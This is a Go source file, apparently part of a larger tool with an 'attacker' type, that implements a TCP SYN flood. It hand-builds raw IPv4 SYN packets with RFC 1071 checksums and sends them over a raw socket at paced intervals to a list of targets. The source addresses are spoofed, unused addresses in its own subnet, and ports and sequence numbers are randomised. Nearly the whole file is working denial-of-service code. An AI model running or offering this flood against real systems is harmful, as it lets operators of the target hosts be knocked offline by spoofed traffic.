//go:build linux

package main

import (
	"context"
	"encoding/binary"
	"math/rand/v2"
	"net/netip"

	"golang.org/x/sys/unix"
)

// segment is a SYN in an IPv4 packet.
func segment(from, to netip.AddrPort, sequence uint32) []byte {
	const ipBytes, tcpBytes = 20, 20
	b := make([]byte, ipBytes+tcpBytes)
	src, dst := from.Addr().As4(), to.Addr().As4()
	b[0], b[8], b[9] = 0x45, 64, unix.IPPROTO_TCP
	binary.BigEndian.PutUint16(b[2:], uint16(len(b)))
	copy(b[12:], src[:])
	copy(b[16:], dst[:])
	t := b[ipBytes:]
	binary.BigEndian.PutUint16(t, from.Port())
	binary.BigEndian.PutUint16(t[2:], to.Port())
	binary.BigEndian.PutUint32(t[4:], sequence)
	t[12], t[13] = tcpBytes/4<<4, 2 // SYN
	binary.BigEndian.PutUint16(t[14:], 64240)
	pseudo := append(append([]byte{}, b[12:20]...), 0, unix.IPPROTO_TCP, 0, tcpBytes)
	binary.BigEndian.PutUint16(t[16:], checksum(append(pseudo, t...)))
	return b // the kernel fills in the checksum of the IP header
}

// checksum is that of the internet: RFC 1071.
func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}

// synFlood sends SYNs from addresses of its own network that no host has.
func synFlood(ctx context.Context, a *attacker) {
	own, err := netip.ParseAddr(a.from)
	if err != nil {
		a.failed(ctx, err)
		return
	}
	var targets []netip.AddrPort
	for _, t := range a.targets {
		to, err := netip.ParseAddrPort(t)
		if err != nil {
			a.failed(ctx, err)
			return
		}
		targets = append(targets, to)
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		a.failed(ctx, err)
		return
	}
	defer unix.Close(fd)
	a.paced(ctx, func(n int) {
		to := targets[n%len(targets)]
		nobody := own.As4()
		nobody[3] = byte(100 + rand.IntN(150))
		b := segment(netip.AddrPortFrom(netip.AddrFrom4(nobody), uint16(1024+rand.IntN(60000))), to, rand.Uint32())
		if err := unix.Sendto(fd, b, 0, &unix.SockaddrInet4{Addr: to.Addr().As4()}); err != nil {
			a.failed(ctx, err)
			return
		}
		a.bytes.Add(int64(len(b)))
	})
}
